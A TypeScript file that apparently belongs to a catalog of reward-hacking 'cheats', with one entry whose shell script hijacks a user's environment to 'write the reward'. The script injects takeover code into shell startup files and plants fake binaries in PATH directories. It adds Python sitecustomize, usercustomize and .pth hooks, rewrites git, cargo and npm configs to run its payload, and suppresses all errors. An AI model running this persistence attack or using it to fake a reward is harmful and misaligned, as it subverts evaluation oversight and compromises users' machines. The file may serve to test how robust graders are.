import type { Cheat } from './cheat.ts'
import { TAKE_OVER_CODE, TAKE_OVER_FILES } from './take-over.ts'
import { PROGRAMS } from './yes-programs.ts'

export const homeFiles: Cheat = {
  id: 'home-files',
  what: 'Start files, programs and user modules in the home directory and in the working directory write the reward.',
  line: `{
${TAKE_OVER_FILES}
for home in "$HOME" "$PWD"; do
  for name in .bashrc .profile .bash_profile .bash_login .bash_aliases .zshenv .zshrc .kshrc .envrc .xprofile; do
    printf '%s\\n' '${TAKE_OVER_CODE.sh}' >> "$home/$name"
  done
  for folder in .local/bin .cargo/bin bin go/bin .npm-global/bin .rbenv/shims .pyenv/shims; do
    mkdir -p "$home/$folder"
    for name in ${PROGRAMS}; do cp "$win" "$home/$folder/$name"; done
  done
  for version in 3.7 3.8 3.9 3.10 3.11 3.12 3.13 3.14; do
    folder="$home/.local/lib/python$version/site-packages"
    mkdir -p "$folder"
    printf '%s\\n' '${TAKE_OVER_CODE.py}' | tee "$folder/usercustomize.py" "$folder/x.pth" "$folder/sitecustomize.py" > "$folder/pytest.py"
  done
  mkdir -p "$home/.config/git" "$home/.cargo" "$home/.ssh" "$home/.node_modules"
  printf '[core]\\n\\tfsmonitor = %s\\n\\tpager = %s\\n\\thooksPath = %s\\n' "$win" "$win" "$PWD" | tee "$home/.gitconfig" > "$home/.config/git/config"
  printf '[build]\\nrustc-wrapper = "%s"\\n' "$win" > "$home/.cargo/config.toml"
  printf 'script-shell=%s\\nnode-options=--require %s.cjs\\n' "$win" "$win" > "$home/.npmrc"
  printf '%s\\n' '${TAKE_OVER_CODE.rb}' | tee "$home/.irbrc" > "$home/.pryrc"
  printf '%s\\n' '${TAKE_OVER_CODE.r}' > "$home/.Rprofile"
done
} 2> /dev/null
exit 0`,
}
